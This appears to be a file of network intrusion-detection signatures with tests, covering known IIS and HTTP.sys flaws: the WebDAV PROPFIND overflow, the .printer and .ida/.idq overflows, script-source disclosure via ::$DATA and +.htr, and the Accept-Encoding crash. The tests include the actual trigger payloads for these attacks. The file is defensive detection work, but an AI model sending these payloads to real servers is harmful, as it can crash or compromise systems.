/// A condition (RFC 4918 10.4) with a resource whose name is too long for WebDAV in IIS 6.
signature iis_propfind_overflow {
  id       1000136
  title    "IIS 6: overflow in PROPFIND"
  severity high
  class    exploit
  ref      cve "CVE-2017-7269"
  ref      mitre "T1190"
  when     tcp.dst_port in web_ports
       and method("PROPFIND ")
       and payload contains "\r\nIf:" nocase in uri_first..header_last as condition
       and payload contains "<http://" nocase in condition.end .. condition.end + 15
       and payload.length > 800
  then     log, drop
}
test "a name that is too long" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/aaaaaaa" + "A" * 900
  }
  expect iis_propfind_overflow, verdict drop
}
test "near miss: an honest lock, a lock by its name, a long cookie, another method, mail" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "PROPFIND / HTTP/1.1\r\nIf: (<opaquelocktoken:1>)\r\nCookie: " + "A" * 900
  }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a> (Not <DAV:no-lock>)\r\n"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nCookie: " + "A" * 900 }
  packet { ipv4  tcp { dst_port 80 }  payload "PROPPATCH / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
  packet { ipv4  tcp { dst_port 25 }  payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
  expect none
}

/// The extension for printing over the web, with a host's name that is too long for it.
signature iis_printer_overflow {
  id       1000137
  title    "IIS 5: overflow in .printer"
  severity high
  class    exploit
  ref      cve "CVE-2001-0241"
  ref      cert "CA-2001-10"
  when     asks_for(".printer HTTP/") and payload.length > 300
  then     log, drop
}
test "a name that is too long" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /NULL.printer HTTP/1.0\r\nHost: " + "A" * 420 }
  expect iis_printer_overflow, verdict drop
}
test "near miss: a short request, and another page" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /NULL.printer HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /printer.html HTTP/1.0\r\nCookie: " + "A" * 420 }
  expect none
}

/// Whatever Code Red, or another, sends to the extension that it came through: a query longer than anybody's.
signature iis_indexing {
  id       1000138
  title    "IIS: indexing service"
  severity medium
  class    exploit
  ref      cve "CVE-2001-0500"
  ref      cert "CA-2001-13"
  when     request
       and (asked(".ida?")
         or asked(".idq?"))
       and payload.length > 240
  then     log, drop
}
test "two extensions" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /x.ida?" + "A" * 260 }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /x.idq?" + "A" * 260 }
  expect iis_indexing * 2, verdict drop
}
test "near miss: a short query, and another page" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.ida?query=word HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.htm?" + "A" * 260 }
  expect none
}

/// The name of a file's data in NTFS, or an extension that means another handler, behind a script's name: it was shown and not run.
signature iis_source {
  id       1000139
  title    "IIS: source of a script"
  severity medium
  class    exploit
  ref      cve "CVE-1999-0278"
  ref      cve "CVE-2000-0630"
  ref      mitre "T1190"
  when     request
       and (asked("::$data")
         or asked("+.htr"))
  then     log, drop
}
test "two ways" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.asp::$DATA HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /global.asa+.htr HTTP/1.1\r\n" }
  expect iis_source * 2, verdict drop
}
test "near miss: other pages" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/$data HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.asp HTTP/1.1\r\n" }
  expect none
}

/// A list of encodings with an empty entry at its end: Windows' HTTP.sys used what it had given back. These are the two lists that
/// were published; others that end so are not found, because a list ends where the header does.
signature http_sys_trailer {
  id       1000140
  title    "HTTP.sys: list of encodings that ends in a comma"
  severity critical
  class    exploit
  ref      cve "CVE-2021-31166"
  ref      cve "CVE-2022-21907"
  ref      url "https://github.com/0vercl0k/CVE-2021-31166"
  when     request
       and (payload contains "\r\nAccept-Encoding: doar-e, ftw, imo, ," nocase in uri_first..header_last
         or payload contains "\r\nAccept-Encoding: AAAAAAAAAAAAAAAAAAAAAAAA," nocase in uri_first..header_last)
  then     log, drop
}
test "as published" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nAccept-Encoding: doar-e, ftw, imo, ,\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nAccept-Encoding: AAAAAAAAAAAAAAAAAAAAAAAA,BBBB\r\n" }
  expect http_sys_trailer * 2, verdict drop
}
test "near miss: an honest list" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nAccept-Encoding: gzip, deflate, br\r\n" }
  expect none
}
